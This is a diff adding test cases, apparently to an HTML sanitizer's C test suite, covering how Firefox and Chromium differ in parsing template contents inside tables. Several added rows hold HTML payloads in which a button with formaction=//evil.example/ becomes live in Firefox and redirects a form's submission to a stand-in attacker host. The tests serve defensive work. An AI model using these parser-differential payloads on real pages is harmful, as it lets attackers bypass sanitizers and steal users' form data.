@@ -429,6 +429,54 @@ static const row rows[] = {
      "<template><form><col><title></template></title></template>" RF IN CL, 1},
     {"template long name col", "<template><linkx><col><title></template></title></template>" RF CL,
      "<template><linkx><col><title></template></title></template>" RF IN CL, 1},
+    /* template contents whose first start tag is a table part, in a
+     * table: a <caption>, <col>, <colgroup>, <tbody>, <tfoot>, <thead> or
+     * <tr> in "in row" (a <td> or <th> first), or a </table>, </tbody>,
+     * </tfoot>, </thead> (or </tr> in "in row") that Firefox (153 ESR)
+     * looks for past the template: it finds the page's row, section or
+     * table, pops the template with it, and what the injector reads as
+     * inert template contents is live (Chromium 156 keeps the template,
+     * as the spec does). The button sends f elsewhere in Firefox; the
+     * model stops */
+    {"template cell caption firefox",
+     "<table><tr><td><template><td><caption><button form=f formaction=//evil.example/>x</button></template>"
+     "</td></tr></table><form id=f method=post action=/f>" CL,
+     "<table><tr><td><template><td><caption><button form=f formaction=//evil.example/>x</button></template>"
+     "</td></tr></table><form id=f method=post action=/f>" CL,
+     0},
+    {"template cell tr firefox",
+     "<table><tr><td><template><th></th><tr><button form=f formaction=//evil.example/>x</button></template>"
+     "</td></tr></table><form id=f method=post action=/f>" CL,
+     "<table><tr><td><template><th></th><tr><button form=f formaction=//evil.example/>x</button></template>"
+     "</td></tr></table><form id=f method=post action=/f>" CL,
+     0},
+    {"template cell end tr firefox",
+     "<table><tr><template><td></td></tr><button form=f formaction=//evil.example/>x</button></template></tr></table>"
+     "<form id=f method=post action=/f>" CL,
+     "<table><tr><template><td></td></tr><button form=f formaction=//evil.example/>x</button></template></tr></table>"
+     "<form id=f method=post action=/f>" CL,
+     0},
+    {"template tbody end table firefox",
+     "<table><tr><td><template><tbody></table>" RF "<button formaction=//evil.example/>x</button></template>" RF CL,
+     "<table><tr><td><template><tbody></table>" RF "<button formaction=//evil.example/>x</button></template>" RF CL, 0},
+    {"template row end tbody firefox",
+     "<table><tbody><tr><td><template><tr></tr></tbody>" RF
+     "<button formaction=//evil.example/>x</button></template>" RF CL,
+     "<table><tbody><tr><td><template><tr></tr></tbody>" RF
+     "<button formaction=//evil.example/>x</button></template>" RF CL,
+     0},
+    {"template nested cell caption firefox",
+     "<template><table><tr><td><template><td><caption></template></template>" RF CL,
+     "<template><table><tr><td><template><td><caption></template></template>" RF CL, 0},
+    /* what Firefox reads as Chromium does: rows in a template in a table
+     * (each closes its own), a cell template's tags with no table around
+     * it (no row to find: ignored), a table part after a <div> first */
+    {"template rows in table", "<table><template><tr><td>a</td></tr><tr><td>b</td></tr></template></table>" RF CL,
+     "<table><template><tr><td>a</td></tr><tr><td>b</td></tr></template></table>" RF IN CL, 1},
+    {"template cell caption no table", "<template><td><caption><tr></tr></template>" RF CL,
+     "<template><td><caption><tr></tr></template>" RF IN CL, 1},
+    {"template div caption in table", "<table><tr><td><template><div><caption><tr></table></template></table>" RF CL,
+     "<table><tr><td><template><div><caption><tr></table></template></table>" RF IN CL, 1},
     /* a tag Chromium reads as any other, Firefox by the head's rules: a
      * <col> after it is "in body" in one, "in column group" in the
      * other; the model stops */
